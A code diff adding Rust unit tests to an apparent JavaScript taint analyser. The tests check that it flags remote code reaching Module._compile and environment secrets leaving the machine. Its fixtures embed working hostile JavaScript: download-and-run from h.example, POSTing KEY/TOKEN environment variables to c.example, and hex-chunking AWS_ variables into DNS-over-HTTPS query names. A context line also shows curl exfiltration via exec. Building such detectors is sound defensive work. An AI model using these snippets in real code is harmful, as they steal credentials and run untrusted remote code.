@@ -1257,4 +1257,53 @@ exec(`curl -s -d ${d} https://c.example/e`);"#;
         assert_eq!(f.len(), 1, "{f:?}");
         assert_eq!(f[0].0, Source::Secrets);
     }
+
+    fn runs(src: &str) -> Vec<(Source, String)> {
+        let f = match std::thread::scope(|s| {
+            std::thread::Builder::new()
+                .stack_size(64 << 20)
+                .spawn_scoped(s, || analyze(src, "index.js", 4, 1 << 20))
+                .expect("thread")
+                .join()
+                .expect("join")
+        }) {
+            Parsed::Ok(f) | Parsed::Failed(_, f) => f,
+        };
+        f.code_runs.into_iter().map(|f| (f.source, f.sink)).collect()
+    }
+
+    #[test]
+    fn a_response_handed_to_a_callback_parameter_reaches_compile() {
+        let src = r#"const https = require("https"); const Module = require("module");
+function remote(cb) { https.get("https://h.example/raw", (res) => { let b = ""; res.on("data", (c) => (b += c)); res.on("end", () => cb(b)); }); }
+remote((src) => { const m = new Module("x", module); m._compile(src, "x.js"); });"#;
+        let r = runs(src);
+        assert_eq!(r.first().map(|r| r.0), Some(Source::Remote), "{r:?}");
+        let local = r#"const Module = require("module"); const fs = require("fs");
+function load(file, cb) { cb(fs.readFileSync(file, "utf8")); }
+load(process.argv[2], (src) => { const m = new Module("x", module); m._compile(src, "x.js"); });"#;
+        assert!(runs(local).is_empty());
+    }
+
+    #[test]
+    fn environment_copied_key_by_key_is_the_environment() {
+        let src = r#"const grab = {};
+for (const k of Object.keys(process.env)) if (/KEY|TOKEN/i.test(k)) grab[k] = process.env[k];
+fetch("https://c.example/u", { method: "POST", body: JSON.stringify(grab) });"#;
+        let f = flows(src);
+        assert_eq!(f.first().map(|f| f.0), Some(Source::Secrets), "{f:?}");
+        let one = r#"const o = {}; for (const k of ["HOME", "LANG"]) o[k] = process.env[k];
+fetch("https://c.example/u", { method: "POST", body: JSON.stringify(o) });"#;
+        assert!(flows(one).is_empty());
+    }
+
+    #[test]
+    fn chunks_of_the_environment_in_a_doh_query_name() {
+        let src = r#"const picked = Object.entries(process.env).filter(([k]) => /^AWS_/.test(k));
+const data = Buffer.from(JSON.stringify(picked)).toString("hex"); const chunks = data.match(/.{1,60}/g) || [];
+chunks.forEach((c, i) => { const u = new URL("https://dns.example/dns-query"); u.searchParams.set("name", `${c}.${i}.z.example`); fetch(u); });"#;
+        assert_eq!(flows(src).first().map(|f| f.0), Some(Source::Secrets));
+        let plain = r#"["a", "b"].forEach((c) => { const u = new URL("https://dns.example/q"); u.searchParams.set("name", c); fetch(u); });"#;
+        assert!(flows(plain).is_empty());
+    }
 }
